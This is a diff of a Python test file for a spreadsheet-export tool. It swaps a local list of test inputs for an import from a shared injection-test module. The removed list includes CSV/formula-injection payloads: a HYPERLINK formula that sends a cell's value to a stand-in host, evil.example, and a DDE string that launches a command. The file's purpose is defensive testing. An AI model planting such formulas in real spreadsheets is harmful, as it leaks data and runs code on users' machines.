@@ -7,24 +7,9 @@ import random
 
 from fastrak_xl.app.results import ChecksOnly, Results, RunLine, SectorTotal
 from fastrak_xl.domain.diagnostics import Diagnostic, Severity
+from tests import injection
 
-PAYLOADS = (
-    '=HYPERLINK("http://evil.example/?"&A1,"Fund")',
-    "+cmd|' /C calc'!A0",
-    "-2+3",
-    "@SUM(1+1)*cmd",
-    "https://example.org/fund",
-    "  blanks around  ",
-    "bell\x07 and tab\t and\nnew line\r",
-    "literal _x0041_ stays",
-    "<b>&amp; \"quoted\" 'single'</b>",
-    "007",
-    "1E5",
-    "TRUE",
-    "#N/A",
-    "half \ud83d pair",
-    "emoji 📈 fund £ – −",
-)
+PAYLOADS = (*injection.PAYLOADS.values(), "#N/A")
 SECTORS = (
     ("UK Equity", "#1F4E79"),
     ("North America Equity", "#2E75B6"),
